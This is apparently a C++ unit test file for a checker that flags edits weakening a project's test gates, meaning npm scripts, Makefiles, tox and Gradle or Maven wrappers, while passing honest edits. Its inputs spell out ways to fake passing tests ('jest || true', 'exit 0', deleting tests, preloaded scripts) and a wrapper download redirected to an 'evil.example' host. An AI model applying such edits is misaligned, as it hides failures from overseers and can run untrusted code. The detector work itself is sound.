// Scripts, targets and wrappers that a gate's command runs by name: changes that weaken them are found, and
// honest changes are not reported.
#include "gates/policy/run_targets.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "gates/policy/shadowing.h"
#include "plan/script.h"

namespace pawl::gates {
namespace {

using ::testing::HasSubstr;

RunTargets targets_of(const std::string& command) {
  RunTargets out{.hidden_failures = [](const auto& argv) { return plan::hidden_failures(argv); }};
  out.add({"sh", "-e", "-c", command});
  return out;
}

std::string change_of(const std::string& command, const std::string& path, const std::string& before,
                      const std::string& after) {
  const auto version = [](const std::string& text) {
    return FileVersion{.size = static_cast<std::int64_t>(text.size()), .content = text};
  };
  return weakened_target({.path = path, .before = version(before), .after = version(after)},
                         targets_of(command));
}

TEST(RunTargets, ACommandSaysWhichScriptsAndTargetsItRuns) {
  using Names = std::set<std::string, std::less<>>;
  const auto scripts = [](const std::string& command) { return targets_of(command).scripts; };
  EXPECT_EQ(scripts("npm test"), Names{"test"});
  EXPECT_EQ(scripts("cd app && npm --prefix web run unit -- --ci"), Names{"unit"});
  EXPECT_EQ(scripts("yarn lint; pnpm -C a run-script e2e; npm t"), (Names{"e2e", "lint", "test"}));
  EXPECT_EQ(scripts("node --test"), Names());
  const auto targets = [](const std::string& command) { return targets_of(command).targets; };
  EXPECT_EQ(targets("make"), Names{""});
  EXPECT_EQ(targets("make && sh x.sh"), Names{""});
  EXPECT_EQ(targets("make -s -C lib check V=1 unit"), (Names{"check", "unit"}));
  EXPECT_EQ(targets("sh make.sh"), Names());
}

TEST(RunTargets, AScriptThatCanNoLongerFailIsWeaker) {
  const auto change = [](const std::string& before, const std::string& after) {
    const auto json = [](const std::string& script) {
      return R"({"scripts": {"test": ")" + script + R"("}})";
    };
    return change_of("npm test", "app/package.json", json(before), json(after));
  };
  EXPECT_THAT(change("jest", "jest || true"),
              HasSubstr("script `test`, which a gate runs, can pass although"));
  for (const auto* after : {"jest; true", "jest; exit 0", "jest || exit 0", "true", "exit 0", "echo ok", "",
                            ":", "jest --passWithNoTests", "jest | tee log", "jest || echo failed"})
    EXPECT_NE(change("jest", after), "") << after;
  for (const auto* after : {"jest", "vitest run", "tsc && jest", "jest --ci", "cd a; jest",
                            "jest --silent=false", "NODE_ENV=test jest"})
    EXPECT_EQ(change("jest", after), "") << after;
  EXPECT_EQ(change("jest || true", "jest --ci || true"), "") << "base did already";
  EXPECT_EQ(change("node run.js", "node run.js | diff - expected"), "");
  EXPECT_EQ(change("echo none", "true"), "");
}

TEST(RunTargets, ScriptsThatAScriptRunsAndThoseAroundItCountToo) {
  const std::string before =
      R"({"scripts": {"test": "npm run unit && npm run lint", "unit": "jest", "lint": "eslint .",
    "posttest": "node check.js", "clean": "rm -rf out"}})";
  const auto change = [&](const std::string& from, const std::string& to) {
    auto after = before;
    after.replace(after.find(from), from.size(), to);
    return change_of("npm test", "package.json", before, after);
  };
  EXPECT_THAT(change("\"jest\"", "\"jest || true\""), HasSubstr("script `unit`"));
  EXPECT_THAT(change("\"node check.js\"", "\"true\""), HasSubstr("does not run `check.js`"));
  EXPECT_EQ(change("\"rm -rf out\"", "\"rm -rf out || true\""), "") << "no gate runs it";
  EXPECT_EQ(change_of("npm run build", "package.json", before, R"({"scripts": {"test": "true"}})"), "");
  EXPECT_NE(change_of("npm test", "package.json", before, "no JSON"), "");
  EXPECT_EQ(change_of("npm test", "package.json", "no JSON", "nor this"), "")
      << "base has no script that is known";
  EXPECT_THAT(change_of("npm test", "package.json", before, R"({"scripts": {"unit": "jest"}})"),
              HasSubstr("is gone"));
  EXPECT_THAT(change("\"posttest\": \"node check.js\", ", ""), HasSubstr("does not run `check.js`"));
  EXPECT_NE(change("\"npm run unit && npm run lint\"", "\"npm run lint\""), "") << "the tests are left out";
  EXPECT_NE(change("\"npm run unit && npm run lint\"", "\"npm run clean && npm run lint\""), "");
  EXPECT_EQ(change("\"npm run unit && npm run lint\"", "\"jest && npm run lint\""), "")
      << "the same programs";
}

TEST(RunTargets, AScriptStaysTheSameProgramAndLoadsNothingMore) {
  const auto change = [](const std::string& before, const std::string& after, const std::string& more = "") {
    const auto json = [](const std::string& script, const std::string& others) {
      return R"({"scripts": {)" + others + R"("test": ")" + script + R"("}})";
    };
    return change_of("npm test", "package.json", json(before, ""), json(after, more));
  };
  for (const auto* name : {"pretest", "posttest"})
    EXPECT_THAT(change("jest", "jest", "\"" + std::string(name) + "\": \"node x.js\", "), HasSubstr(name));
  EXPECT_EQ(change("jest", "jest", R"("prebuild": "tsc", "test:unit": "jest unit", "pretend": "x", )"), "");
  for (const auto* after : {"./node --test", "tools/node --test", "tsc && ./node --test",
                            "/workspace/node --test", "NODE_ENV=test ./x", "npx ./node --test"})
    EXPECT_THAT(change("node --test", after), HasSubstr("instead of an installed program")) << after;
  for (const auto* after :
       {"node_modules/.bin/jest", "./node_modules/.bin/jest --ci", "node --test tests/a.js",
        "node --test && ./more.sh", "/usr/bin/node --test", "npx jest", "node node_modules/jest/bin/jest.js",
        "c8 -r text node --test", "eslint . && node --test", "npx -y mocha"})
    EXPECT_EQ(change("node --test", after), "") << after;
  for (const auto* after :
       {"node fake.js", "sh tests/run.sh", "node -e 'process.exit(0)'", "python3 fake.py", "tsx fake.ts",
        "bash -c ./fake.sh", "npx tsx fake.ts", "env CI=1 node ./fake.js", "eslint . && node fake.js"})
    for (const auto* before : {"jest", "node --test", "some-runner"})
      EXPECT_THAT(change(before, after), HasSubstr("instead of an installed program"))
          << before << " " << after;
  for (const auto* after : {"eslint .", "jest --version", "jest --listTests", "ls", "cat README.md",
                            "git status", "node --check fake.js", "npm ls"})
    EXPECT_NE(change("jest", after), "") << after;
  EXPECT_NE(change("jest", "npm run fake", R"("fake": "node fake.js", )"), "");
  EXPECT_NE(change("jest", "npm run fake", R"("fake": "true", )"), "");
  EXPECT_EQ(change("jest", "npm run unit", R"("unit": "jest --ci", )"), "");
  EXPECT_EQ(change("jest", "run-s 'unit:*'", R"("unit:a": "jest a", "unit:b": "jest b", )"), "");
  EXPECT_EQ(change("node test", "node test/index.js"), "");
  EXPECT_EQ(change("./run.sh", "./run.sh --all"), "") << "it was its own program before";
  for (const auto* after :
       {"node --require ./pre.js --test", "node -r ./pre.js --test", "node -r./pre.js --test",
        "node --import=./pre.js --test", "node --loader ./l.mjs --test",
        "node --experimental-loader=./l.mjs --test", "NODE_OPTIONS='--require ./x' node --test"})
    EXPECT_THAT(change("node --test", after), HasSubstr("before the tests")) << after;
  EXPECT_NE(change("mocha --require ./a.js", "mocha --require ./b.js"), "");
  EXPECT_EQ(change("mocha -r ts-node/register", "mocha --ci -r ts-node/register"), "");
  for (const auto* after : {"rm -r out && node --test", "cp -r a b; node --test",
                            "node --test --reporter=tap", "esbuild --loader:.js=jsx && node --test"})
    EXPECT_EQ(change("node --test", after), "") << after;
}

TEST(RunTargets, ALinterOrACompilerMayRunAroundAnUnchangedTest) {
  const auto adds = [](const std::string& scripts) {
    return change_of("npm test", "package.json", R"({"scripts": {"test": "jest"}})",
                     R"({"scripts": {"test": "jest", )" + scripts + "}}");
  };
  for (const auto* scripts :
       {R"("pretest": "tsc -p .")", R"("posttest": "standard")", R"("pretest": "eslint . && tsc --noEmit")",
        R"("pretest": "npm run build", "build": "rimraf dist && tsc --outDir dist")",
        R"("posttest": "npx prettier -c .")",
        R"("pretest": "rm -rf build && esbuild a.ts --outfile=build/a.js")"})
    EXPECT_EQ(adds(scripts), "") << scripts;
  for (const auto* scripts :
       {R"("pretest": "node x.js")", R"("posttest": "cp good.xml out.xml")", R"("pretest": "rm -rf test")",
        R"("pretest": "tsc --outDir test")",
        R"("pretest": "esbuild a.ts --outfile=node_modules/jest/index.js")",
        R"("pretest": "npm run build", "build": "node build.js")", R"("posttest": "eslint . >out.xml")",
        R"("pretest": "eslint -r ./x.js . --require ./x.js")", R"("pretest": "./tsc")",
        R"("pretest": "jest -u")", R"("pretest": "git checkout .")"})
    EXPECT_THAT(adds(scripts), HasSubstr("is new, and runs with `test`")) << scripts;
}

TEST(RunTargets, APackageIsReadAsNodeReadsIt) {
  const std::string before = R"({"scripts": {"test": "jest"}})";
  const auto with = [&](const std::string& more) {
    return change_of("npm test", "package.json", before, R"({"scripts": {"test": "true"}, )" + more + "}");
  };
  EXPECT_THAT(with(R"("x": 1e999)"), HasSubstr("runs no command any more"));
  EXPECT_THAT(with("\"description\": \"\xff\xfe\""), HasSubstr("runs no command any more"));
  EXPECT_THAT(with("\"x\": " + std::string(100'000, '[') + std::string(100'000, ']')),
              HasSubstr("runs no command any more"));
  EXPECT_THAT(with(R"("a": "1e999 \" -1", "b": [-1.5E+400, {"scripts": {"test": "jest"}}])"),
              HasSubstr("runs no command any more"));
  const auto weakens = [&](const std::string& after) {
    return change_of("npm test", "package.json", before, after) != "";
  };
  EXPECT_TRUE(
      weakens("\xEF\xBB\xBF"
              R"({"scripts": {"test": "true"}})"));
  EXPECT_TRUE(weakens(R"({"scripts": {"test": "jest"}, "scripts": {"test": "true"}})"))
      << "the last one counts";
  EXPECT_TRUE(weakens(R"({"scripts": {"test": "jest", "test": "true"}})"));
  EXPECT_TRUE(weakens(R"({"scripts": {"test": "jest"}, "scripts": 1})"));
  EXPECT_TRUE(weakens(R"(["scripts", {"test": "jest"}])"));
  EXPECT_TRUE(weakens(R"({"scripts": {"test": ["jest"]}})"));
  EXPECT_FALSE(
      weakens(R"({"x": 1e999, "scripts": {"a": {"test": "true"}, "test": "jest"}, "y": {"test": "true"}})"));
}

TEST(RunTargets, AFileThatIsNotReadAnyMoreIsWeaker) {
  const auto words = [](const std::string& path, const FileVersion& after, bool unread,
                        const std::string& command) {
    return shadowing(
        {.path = path, .before = FileVersion{.size = 1, .content = "x"}, .after = after, .unread = unread},
        {.targets = targets_of(command)});
  };
  for (const auto& [path, command] :
       std::initializer_list<std::pair<const char*, const char*>>{{"Makefile", "make test"},
                                                                  {"sub/rules.mk", "make test"},
                                                                  {"package.json", "npm test"},
                                                                  {"tox.ini", "tox"},
                                                                  {"pom.xml", "mvn test"},
                                                                  {"gradlew", "./gradlew test"},
                                                                  {"mvnw", "./mvnw test"},
                                                                  {"build.gradle", "gradle test"},
                                                                  {".npmrc", "npm test"},
                                                                  {"pytest.ini", "pytest"},
                                                                  {".mocharc.json", "mocha"},
                                                                  {".proverc", "prove"},
                                                                  {".cargo/config.toml", "cargo test"},
                                                                  {"jest.config.js", "jest"}}) {
    EXPECT_THAT(words(path, FileVersion{.is_link = true, .content = "x"}, false, command),
                HasSubstr("is a link"))
        << path;
    EXPECT_THAT(words(path, FileVersion{.size = 1 << 30}, true, command), HasSubstr("too large to be read"))
        << path;
  }
  EXPECT_EQ(words("notes", FileVersion{.is_link = true, .content = "x"}, false, "make test"), "");
  FileChange large{.path = "Cargo.toml",
                   .before = FileVersion{.size = 1 << 30},
                   .after = FileVersion{.size = 1 << 30},
                   .unread = true};
  EXPECT_EQ(shadowing(large, {}), "") << "base's was too large, too";
}

TEST(RunTargets, ToxThatRunsNothingIsWeaker) {
  const std::string before = "[tox]\nskipsdist = true\n[testenv]\ncommands =\n  pytest -q\n";
  for (const auto* after : {"[testenv]\ncommands = true\n", "[testenv]\ncommands =\n  echo ok\n  true\n",
                            "[testenv]\ndeps = pytest\n", "[testenv]\ncommands =\n"})
    EXPECT_THAT(change_of("tox", "tox.ini", before, after), HasSubstr("no command")) << after;
  for (const auto* after :
       {"[testenv]\ncommands =\n  echo start\n  pytest -q\n", "[testenv]\ncommands = pytest\n",
        "[testenv]\ncommands =\n  pytest -q\n[testenv:docs]\ncommands = echo none\n"})
    EXPECT_EQ(change_of("tox", "tox.ini", before, after), "") << after;
  const auto added = [](const std::string& text) {
    return weakened_target({.path = "tox.ini", .after = FileVersion{.content = text}}, targets_of("tox"));
  };
  EXPECT_NE(added("[testenv]\ncommands = true\n"), "");
  EXPECT_EQ(added("[testenv]\ncommands = pytest\n[testenv:x]\ncommands = echo\n"), "");
}

constexpr const char* kMakefile =
    "PYTEST = python3 -m pytest\nall: app\napp: a.c\n\t$(CC) -o $@ $<\ncheck: app unit\n\tsh t.sh\nunit:\n"
    "\t$(PYTEST) -q\nclean:\n\trm -f app\n";

std::string make_change(const std::string& from, const std::string& to,
                        const std::string& command = "make check") {
  std::string after = kMakefile;
  after.replace(after.find(from), from.size(), to);
  return change_of(command, "Makefile", kMakefile, after);
}

TEST(RunTargets, ATargetThatCanNoLongerFailIsWeaker) {
  EXPECT_THAT(make_change("\tsh t.sh", "\t-sh t.sh"),
              HasSubstr("target `check`, which a gate runs, ignores"));
  for (const auto* to : {"\tsh t.sh || true", "\tsh t.sh; true", "\t@true", "\t@echo ok",
                         "\tsh t.sh | tee log", "\tsh t.sh || exit 0", "\trm -f log; sh t.sh || true"})
    EXPECT_NE(make_change("\tsh t.sh", to), "") << to;
  EXPECT_THAT(make_change("\t$(PYTEST) -q", "\t-$(PYTEST) -q"), HasSubstr("target `unit`"));
  EXPECT_THAT(make_change("PYTEST = python3 -m pytest", "PYTEST = true"), HasSubstr("PYTEST is `true` now"));
  for (const auto* to :
       {".IGNORE:\nall: app", "MAKEFLAGS += -i\nall: app", "MAKEFLAGS += --ignore-errors\nall: app",
        "MAKEFLAGS = -n\nall: app", "SHELL = /bin/true\nall: app", "SHELL := ./sh-that-lies\nall: app",
        ".SHELLFLAGS = -n -c\nall: app"})
    EXPECT_NE(make_change("all: app", to), "") << to;
  EXPECT_NE(make_change("unit:\n\t$(PYTEST) -q", "unit:"), "") << "nothing is left";
}

TEST(RunTargets, HonestChangesOfAMakefileAreNone) {
  for (const auto* to :
       {"\tsh t.sh\n\tsh more.sh", "\tcd lib; $(MAKE) check", "\t-rm -f log\n\tsh t.sh",
        "\trm -f x || true\n\tsh t.sh", "\tsh t.sh > out && diff out expected", "\tsh t.sh | diff - expected",
        "\t@sh t.sh", "\tfor t in *.t; do sh $$t || exit 1; done", "\tsh t.sh; rc=$$?; rm -f log; exit $$rc"})
    EXPECT_EQ(make_change("\tsh t.sh", to), "") << to;
  for (const auto* to :
       {"SHELL = /bin/bash\nall: app", "SHELL := /usr/bin/env bash\nall: app", "MAKEFLAGS += -rR\nall: app",
        "MAKEFLAGS += --no-print-directory -j4\nall: app", ".SHELLFLAGS = -eu -o pipefail -c\nall: app",
        "CFLAGS = -O2\nall: app", ".PHONY: all check\nall: app", "include x.mk\nall: app"})
    EXPECT_EQ(make_change("all: app", to), "") << to;
  EXPECT_EQ(make_change("\tsh t.sh", "ifdef V\n\tsh -x t.sh\nelse\n\tsh t.sh\nendif"), "");
  EXPECT_EQ(make_change("unit:\n\t$(PYTEST) -q", "unit: quick\nquick:\n\t$(PYTEST) -q"), "") << "it moved";
  EXPECT_EQ(make_change("PYTEST = python3 -m pytest", "PYTEST = python3.12 -m pytest"), "");
  EXPECT_EQ(make_change("\trm -f app", "\t-rm -f app b || true"), "") << "no gate runs it";
  EXPECT_EQ(make_change("\tsh t.sh", "\t-sh t.sh", "make"), "") << "the first target does not need it";
  EXPECT_EQ(make_change("\tsh t.sh", "\t-sh t.sh", "sh t.sh"), "");
}

TEST(RunTargets, AMakefileOfAnySizeIsReadInItsBounds) {
  std::string many;
  for (int i = 0; i < 200'000; ++i) many += "t" + std::to_string(i) + " ";
  EXPECT_THAT(make_change("all: app", "all: app\n" + many + ": " + many), HasSubstr("too large to be read"));
  std::string lines = "all: app\nmore:\n";
  for (int i = 0; i < 100'000; ++i) lines += "\techo " + std::to_string(i) + "\n";
  EXPECT_THAT(make_change("all: app", lines), HasSubstr("too large to be read"));
}

TEST(RunTargets, AWrapperStaysOne) {
  const std::string gradle =
      "#!/bin/sh\nexec java -classpath x org.gradle.wrapper.GradleWrapperMain \"$@\"\n";
  EXPECT_THAT(change_of("./gradlew test", "gradlew", gradle, "#!/bin/sh\nexit 0\n"),
              HasSubstr("no wrapper of Gradle"));
  EXPECT_EQ(change_of("./gradlew test", "gradlew", gradle, "#!/bin/sh\n# 8.9\n" + gradle), "");
  EXPECT_NE(change_of("./mvnw test", "mvnw", "MavenWrapperMain", "exit 0"), "");
  EXPECT_EQ(
      change_of("./mvnw test", "mvnw", "MavenWrapperMain", "reads .mvn/wrapper/maven-wrapper.properties"),
      "");
  const std::string properties = "gradle/wrapper/gradle-wrapper.properties",
                    url = "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\n";
  EXPECT_EQ(change_of("", properties, url,
                      "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip\n"),
            "");
  EXPECT_THAT(change_of("", properties, url, "distributionUrl=https\\://evil.example/gradle.zip\n"),
              HasSubstr("from evil.example"));
  EXPECT_NE(change_of("", properties, url, "distributionUrl=file\\:/workspace/g.zip\n"), "");
  EXPECT_NE(
      change_of("tox", "tox.ini", "[testenv]\ncommands =\n  pytest\n", "[testenv]\ncommands =\n  - pytest\n"),
      "");
  EXPECT_NE(change_of("tox", "tox.ini", "[testenv]\ncommands = pytest\n", "[testenv]\ncommands = - pytest\n"),
            "");
  EXPECT_EQ(change_of("tox", "tox.ini", "[testenv]\ncommands = pytest\n",
                      "[testenv]\ndeps =\n  -rreq.txt\ncommands = pytest -q\n"),
            "");
}

TEST(RunTargets, IsShadowingUnlessThePlanAllowsIt) {
  FileChange change{.path = "package.json",
                    .before = FileVersion{.content = R"({"scripts":{"test":"jest"}})"},
                    .after = FileVersion{.content = R"({"scripts":{"test":"true"}})"}};
  EXPECT_NE(shadowing(change, {.targets = targets_of("npm test")}), "");
  EXPECT_EQ(shadowing(change, {.allowed = {"package.json"}, .targets = targets_of("npm test")}), "");
  EXPECT_EQ(shadowing(change, {.targets = targets_of("npm run build")}), "");
}

}  // namespace
}  // namespace pawl::gates
